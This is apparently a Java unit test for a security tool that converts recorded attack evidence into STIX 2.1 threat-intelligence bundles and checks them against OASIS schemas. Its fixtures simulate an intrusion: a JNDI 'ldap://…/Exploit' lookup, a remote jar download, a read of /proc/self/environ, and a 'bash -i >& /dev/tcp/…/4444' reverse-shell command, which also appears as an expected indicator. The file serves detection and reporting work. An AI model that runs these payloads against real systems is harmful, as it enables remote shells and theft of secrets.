package whorl.collector.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.networknt.schema.InputFormat;
import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import whorl.collector.analysis.findings.Report;
import whorl.collector.analysis.stix.StixBundle;
import whorl.collector.analysis.stix.StixIds;
import whorl.evidence.Json;

/** Checks the bundle against OASIS's schemas of STIX 2.1 and its rules for ids. */
class StixBundleTest {
  private static final String SCHEMAS =
      "http://raw.githubusercontent.com/oasis-open/cti-stix2-json-schemas/stix2.1/schemas/";
  private static final String HASH = "ab".repeat(32);

  private final Rows rows = new Rows();

  /** Returns a report with findings of every analysis, so that every kind of object occurs. */
  private Report everything() throws IOException {
    rows.of("r1", "whorl.JndiLookup", "name", "ldap://203.0.113.9:1389/Exploit");
    rows.of("r1", "whorl.LoaderCreate", "urls", List.of("http://203.0.113.9:8000/a.jar"));
    rows.of("r1", "whorl.ClassDefine", "className", "x.Promo", "origin", "loader", "sha256", HASH);
    rows.of("r1", "whorl.FileOpen", "path", "/proc/self/environ", "access", "read");
    rows.of(
        "r1",
        "whorl.FileOpen",
        "path",
        "/tmp/it's \"x\\y\".sh",
        "access",
        "write",
        "created",
        true);
    rows.of("r1", "whorl.FileMode", "path", "/tmp/it's \"x\\y\".sh", "mode", "755");
    rows.of("r1", "whorl.DnsLookup", "host", "evil.example", "addresses", List.of("203.0.113.9"));
    rows.of(
        "r1",
        "whorl.SocketConnect",
        "host",
        "evil.example",
        "address",
        "203.0.113.9",
        "port",
        4444);
    rows.of("r1", "whorl.SocketConnect", "host", "", "address", "2001:db8::9", "port", 443);
    rows.of("r1", "whorl.DnsLookup", "host", "not a host name!");
    rows.of(
        "r1", "whorl.ProcessStart", "command", "bash -i >& /dev/tcp/203.0.113.9/4444", "pid", 7);
    rows.of("r1", "whorl.Registration", "kind", "filter", "className", "x.Promo", "target", "/*");
    rows.of("r1", "whorl.Tamper", "what", "recording-stopped");
    rows.event("file.modified", "path", "/tmp/it's \"x\\y\".sh", "sha256", "cd".repeat(32));
    rows.request("r1", "POST", "/import", "", "203.0.113.7", 500);
    return Evidences.report(rows);
  }

  private JsonNode bundle(Report report) throws IOException {
    return Json.LENIENT.readTree(Json.bytes(StixBundle.of(Evidences.of(Rows.EVIDENCE), report)));
  }

  private static Stream<JsonNode> objects(JsonNode bundle) {
    return StreamSupport.stream(bundle.path("objects").spliterator(), false);
  }

  @Test
  void everyObject_passesItsSchema() throws Exception {
    Path folder = schemas();
    if (folder == null) {
      System.out.println("skipped: no STIX schemas; name their folder in -Dwhorl.schemas");
    }
    Assumptions.assumeTrue(folder != null, "no STIX schemas");
    Map<String, String> texts = new HashMap<>();
    try (Stream<Path> files = Files.walk(folder)) {
      for (Path file : files.filter(each -> each.toString().endsWith(".json")).toList()) {
        texts.put(SCHEMAS + folder.relativize(file).toString(), Files.readString(file));
      }
    }
    SchemaRegistry registry =
        SchemaRegistry.withDefaultDialect(
            SpecificationVersion.DRAFT_2020_12, builder -> builder.schemas(texts));
    JsonNode bundle = bundle(everything());

    Map<String, Object> errors = new LinkedHashMap<>();
    Set<String> types = new HashSet<>();
    check(registry, texts, "bundle", bundle, errors);
    for (JsonNode object : objects(bundle).toList()) {
      types.add(object.path("type").asText());
      check(registry, texts, object.path("type").asText(), object, errors);
    }

    assertThat(errors).isEmpty();
    assertThat(types)
        .containsExactlyInAnyOrder(
            "identity",
            "attack-pattern",
            "indicator",
            "observed-data",
            "relationship",
            "report",
            "ipv4-addr",
            "ipv6-addr",
            "domain-name",
            "url",
            "file",
            "directory",
            "process");
    // the schemas reject an invalid object
    check(registry, texts, "indicator", Json.LENIENT.readTree("{\"type\":\"indicator\"}"), errors);
    assertThat(errors).isNotEmpty();
  }

  private static void check(
      SchemaRegistry registry,
      Map<String, String> texts,
      String type,
      JsonNode object,
      Map<String, Object> errors) {
    String id =
        texts.keySet().stream()
            .filter(each -> each.endsWith("/" + type + ".json"))
            .findFirst()
            .orElseThrow(() -> new AssertionError("no schema of " + type));
    Schema schema = registry.getSchema(com.networknt.schema.SchemaLocation.of(id));
    var found = schema.validate(object.toString(), InputFormat.JSON);
    if (!found.isEmpty()) {
      errors.put(object.path("id").asText(type), found + "\n" + object);
    }
  }

  private static @Nullable Path schemas() {
    String named = System.getProperty("whorl.schemas");
    if (named != null) {
      return Path.of(named).resolve("stix21");
    }
    Path folder = Path.of("").toAbsolutePath();
    while (folder != null) {
      Path schemas = folder.resolveSibling("shared").resolve("schemas/stix21");
      if (Files.isDirectory(schemas)) {
        return schemas;
      }
      folder = folder.getParent();
    }
    return null;
  }

  @Test
  void references_pointToObjectsOfTheBundle_andIdsAreUnique() throws Exception {
    JsonNode bundle = bundle(everything());
    List<String> ids = objects(bundle).map(each -> each.path("id").asText()).toList();
    assertThat(ids).doesNotHaveDuplicates();

    for (JsonNode object : objects(bundle).toList()) {
      for (String reference :
          List.of("created_by_ref", "source_ref", "target_ref", "parent_directory_ref")) {
        if (object.has(reference)) {
          assertThat(ids).contains(object.path(reference).asText());
        }
      }
      object.path("object_refs").forEach(each -> assertThat(ids).contains(each.asText()));
    }
  }

  @Test
  void indicators_haveAPatternForEachValueOfTheIntruder() throws Exception {
    assertThat(objects(bundle(everything())).map(each -> each.path("pattern").asText("")))
        .contains(
            "[ipv4-addr:value = '203.0.113.7']",
            "[ipv4-addr:value = '203.0.113.9']",
            "[ipv6-addr:value = '2001:db8::9']",
            "[domain-name:value = 'evil.example']",
            "[url:value = 'http://203.0.113.9:8000/a.jar']",
            "[file:hashes.'SHA-256' = '" + HASH + "']",
            "[file:hashes.'SHA-256' = '" + "cd".repeat(32) + "']",
            "[file:name = 'it\\'s \"x\\\\y\".sh' AND file:parent_directory_ref.path = '/tmp']",
            "[process:command_line = 'bash -i >& /dev/tcp/203.0.113.9/4444']")
        .noneMatch(pattern -> pattern.contains("environ") || pattern.contains("host name!"));
  }

  /** The expected ids come from OASIS's Python library. */
  @Test
  void observableIds_equalThoseOfOtherProducers() {
    assertThat(StixIds.observable("ipv4-addr", "{\"value\":\"198.51.100.3\"}"))
        .isEqualTo("ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4");
    assertThat(StixIds.observable("domain-name", "{\"value\":\"example.com\"}"))
        .isEqualTo("domain-name--bedb4899-d24b-5401-bc86-8f6b4cc18ec7");
    assertThat(StixIds.arbitrary("process", "id"))
        .matches("process--[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}");
    assertThat(StixIds.object("report", "x"))
        .matches("report--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}");
  }

  @Test
  void nothingSuspect_isAReportThatRefersOnlyToItsAuthor() throws Exception {
    rows.event("whorl.Console", "line", "hello");

    assertThat(objects(bundle(Evidences.report(rows))).map(each -> each.path("type").asText()))
        .containsExactly("identity", "report");
  }
}
